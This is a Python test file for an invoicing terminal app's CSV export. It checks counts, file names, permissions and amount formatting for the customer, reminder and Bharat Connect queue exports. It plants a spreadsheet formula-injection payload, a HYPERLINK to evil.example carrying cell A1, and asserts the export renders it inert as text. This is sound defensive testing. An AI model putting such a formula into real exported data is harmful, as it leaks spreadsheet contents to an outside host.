"""``E`` exports what Customers, Reminders and each Bharat Connect queue list, as Invoices does:
the one export dialog, every record EnKash holds for the list (not only the rows loaded), cells a
spreadsheet would run written as text, amounts as plain numbers, into the folder chosen."""

from __future__ import annotations

import csv
import stat
from collections import defaultdict
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

from textual.pilot import Pilot
from textual.widgets import Input, Static

from enkash_tui import clock
from enkash_tui.api.models import InvoiceFilter
from enkash_tui.domain.bharat_connect import BY_KEY, QUEUES
from enkash_tui.domain.exports import NO_RULES, file_name, queue_columns
from enkash_tui.domain.invoices import OPEN
from screens.bharat_connect.screen import BharatConnectScreen
from screens.customers.screen import CustomersScreen
from screens.export import ExportScreen
from screens.help import HelpScreen
from tests.support.clients import signed_in
from tests.support.driving import build_app, open_customers, open_reminders, sign_in, wait_until
from tests.support.sandboxes import RunningSandbox
from tests.support.screen_text import drawn, texts, titled_notes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def amount(cell: str) -> Decimal:
    """A cell a spreadsheet reads as a number: digits, a point and two places, nothing else."""
    assert cell == f"{Decimal(cell):.2f}", f"{cell!r} is not a plain amount"
    return Decimal(cell)


async def hostile_customer(sandbox: RunningSandbox) -> str:
    """One of the demo company's customers gets a name a spreadsheet would run; their id."""
    async with signed_in(sandbox.url) as client:
        first = (await client.search_customers(limit=1, order_by="legalName")).items[0]
    sandbox.conn.execute(
        "UPDATE customers SET legal_name = ? WHERE customer_id = ?", (HOSTILE, first.customer_id)
    )
    return first.customer_id


async def export_to(pilot: Pilot[Any], folder: Path) -> Path:
    """``E`` on the section, the folder typed, Enter, and Esc back: the file written."""
    section = pilot.app.screen
    await pilot.press("E")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, ExportScreen), what="export")
    export = pilot.app.screen
    assert isinstance(export, ExportScreen)
    field = export.query_one("#folder", Input)
    field.value = str(folder)
    field.focus()
    await pilot.press("enter")
    await wait_until(pilot, lambda: "Wrote" in texts(export), what="the export", timeout=20)
    name = export.query_one("#name", Input).value
    written = folder / name
    assert written.is_file() and stat.S_IMODE(written.stat().st_mode) == 0o600
    await pilot.press("escape")
    await wait_until(pilot, lambda: pilot.app.screen is section, what="the section again")
    return written


async def help_lists_export(pilot: Pilot[Any]) -> bool:
    await pilot.press("f1")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, HelpScreen), what="help")
    listed = "Export CSV" in texts(pilot.app.screen)
    await pilot.press("escape")
    await pilot.pause()
    return listed


async def test_customers_export_every_customer_listed_with_what_they_owe(
    start_sandbox: Callable[..., RunningSandbox], tmp_path: Path
) -> None:
    sandbox = start_sandbox()
    hostile_id = await hostile_customer(sandbox)
    async with signed_in(sandbox.url) as client:
        everyone = (await client.search_customers(limit=1)).total
        owed: dict[str, Decimal] = defaultdict(Decimal)
        async for invoice in client.iter_invoices(InvoiceFilter(receivable_statuses=OPEN)):
            owed[invoice.customer_id or ""] += invoice.balance_amount or Decimal(0)
    app = build_app(sandbox.url)
    async with app.run_test(size=(120, 36)) as pilot:
        screen = await open_customers(pilot)
        assert isinstance(screen, CustomersScreen)
        await pilot.press("down")
        assert screen.table.has_focus
        assert await help_lists_export(pilot)

        written = await export_to(pilot, tmp_path / "all")
        assert written.name == f"customers-{clock.today()}.csv"
        rows = read_csv(written)
        assert len(rows) == everyone
        assert f"Export: Wrote {everyone:,} customers to {written}" in titled_notes(app)
        hostile = next(row for row in rows if row["Customer id"] == hostile_id)
        assert hostile["Customer"] == "'" + HOSTILE  # text, never a formula
        # What each owes: their open invoices' balances, added up as the export ran.
        assert {row["Customer id"]: amount(row["Balance"]) for row in rows} == {
            row["Customer id"]: owed.get(row["Customer id"], Decimal(0)) for row in rows
        }
        assert any(amount(row["Balance"]) for row in rows)
        assert all(amount(row["Overdue"]) <= amount(row["Balance"]) for row in rows)

        # A search: the file holds the customers the list shows, no more.
        await pilot.press("slash")
        word = next(row["Customer"] for row in rows if row["Customer id"] != hostile_id)
        await pilot.press(*word.split()[0])
        await pilot.press("down")
        listed = {
            entry.customer_id
            for entry in map(screen.table.source.row, range(screen.table.source.count()))
            if entry
        }
        assert 0 < len(listed) < everyone
        written = await export_to(pilot, tmp_path / "found")
        assert {row["Customer id"] for row in read_csv(written)} == listed
        assert len(read_csv(written)) == len(listed)


async def test_reminders_export_a_row_a_rule_in_a_read_only_session(
    start_sandbox: Callable[..., RunningSandbox], tmp_path: Path
) -> None:
    sandbox = start_sandbox()
    hostile_id = await hostile_customer(sandbox)
    async with signed_in(sandbox.url) as client:
        everyone = [c async for c in client.iter_customers()]
    rules = sum(len(c.customer_reminders) for c in everyone)
    silent = [c.customer_id for c in everyone if not c.customer_reminders]
    app = build_app(sandbox.url, force_readonly=True)  # an export only reads
    async with app.run_test(size=(120, 36)) as pilot:
        await open_reminders(pilot)
        assert await help_lists_export(pilot)

        written = await export_to(pilot, tmp_path / "rules")
        assert written.name == f"reminder-rules-{clock.today()}.csv"
        rows = read_csv(written)
        assert len(rows) == rules + len(silent)
        assert f"Export: Wrote {len(rows):,} rows to {written}" in titled_notes(app)
        assert [r["Customer id"] for r in rows if r["Rule"] == NO_RULES] == [
            c for c in (r["Customer id"] for r in rows) if c in silent
        ]
        assert {r["Customer"] for r in rows if r["Customer id"] == hostile_id} == {"'" + HOSTILE}
        for row in rows:
            if row["Rule"] != NO_RULES:
                int(row["Days from due"])  # a number a spreadsheet can sort by
                assert row["Time"] and row["Type"] in ("once", "repeats")


async def test_a_bharat_connect_queue_exports_every_invoice_with_its_payment(
    start_sandbox: Callable[..., RunningSandbox], tmp_path: Path
) -> None:
    sandbox = start_sandbox()
    queue = BY_KEY["1"]  # payment confirmation pending: each has a reported payment
    async with signed_in(sandbox.url) as client:
        page = await client.search_invoices(queue.filters, limit=1000)
    assert page.total and page.total > 1
    target = page.items[0].invoice_id
    sandbox.conn.execute(
        "UPDATE invoices SET customer_legal_name = ? WHERE invoice_id = ?", (HOSTILE, target)
    )
    app = build_app(sandbox.url)
    async with app.run_test(size=(130, 44)) as pilot:
        await sign_in(pilot)
        await pilot.press("f6")
        screen = app.screen
        assert isinstance(screen, BharatConnectScreen)
        await wait_until(pilot, lambda: screen.loaded_at is not None, what="the first queue")
        assert screen.queue is queue
        assert await help_lists_export(pilot)

        written = await export_to(pilot, tmp_path / "bc")
        assert written.name == f"bharat-connect-payment-confirmation-pending-{clock.today()}.csv"
        rows = read_csv(written)
        assert len(rows) == page.total
        assert {row["Invoice id"] for row in rows} == {i.invoice_id for i in page.items}
        by_id = {row["Invoice id"]: row for row in rows}
        assert by_id[target]["Customer"] == "'" + HOSTILE
        for invoice in page.items:
            row = by_id[invoice.invoice_id]
            bc = invoice.bharat_connect
            assert bc is not None and bc.reported_payment is not None
            assert row["Network status"] == bc.status
            assert int(row["Version"]) == bc.object_version
            assert row["Payment id"] == bc.reported_payment.payment_id
            assert amount(row["Reported amount"]) == bc.reported_payment.amount
            assert amount(row["Balance"]) == invoice.balance_amount


async def test_each_bharat_connect_queue_exports_its_own_invoices(
    sandbox: RunningSandbox, tmp_path: Path
) -> None:
    """Every queue in turn, in one session: its export holds that queue's invoices only."""
    expected: dict[str, list[str]] = {}
    async with signed_in(sandbox.url) as client:
        for queue in QUEUES:
            expected[queue.key] = [i.invoice_id async for i in client.iter_invoices(queue.filters)]
            assert expected[queue.key], f"the sandbox should have invoices in {queue.label!r}"
    app = build_app(sandbox.url)
    async with app.run_test(size=(130, 44)) as pilot:
        await sign_in(pilot)
        await pilot.press("f6")
        screen = app.screen
        assert isinstance(screen, BharatConnectScreen)
        await wait_until(pilot, lambda: screen.loaded_at is not None, what="the first queue")
        bar = " ".join(drawn(screen.query_one("#bc-queues", Static)))
        for queue in QUEUES:
            assert f"{queue.key} {queue.label}" in bar or f"{queue.key} {queue.short}" in bar, bar
            await pilot.press(queue.key)
            await wait_until(
                pilot,
                lambda queue=queue: screen.queue is queue and screen.loaded_at is not None,
                what=f"the queue {queue.label!r}",
            )
            listed = [invoice.invoice_id for invoice in screen.rows]

            written = await export_to(pilot, tmp_path / queue.key)
            assert written.name == file_name("bharat-connect", queue.label, clock.today())
            with written.open(encoding="utf-8", newline="") as handle:
                header, *rows = list(csv.reader(handle))
            assert header == [column.name for column in queue_columns(clock.today())]
            ids = [row[header.index("Invoice id")] for row in rows]
            assert sorted(ids) == sorted(expected[queue.key])  # the queue's invoices, each once
            assert ids == listed  # in the list's order
            statuses = queue.filters.bharat_connect_statuses
            for row in rows:
                cells = dict(zip(header, row, strict=True))
                if statuses:
                    assert cells["Network status"] in statuses, cells
                if queue.filters.bharat_connect_payment_pending:
                    assert cells["Payment id"], cells  # the payment the buyer reported
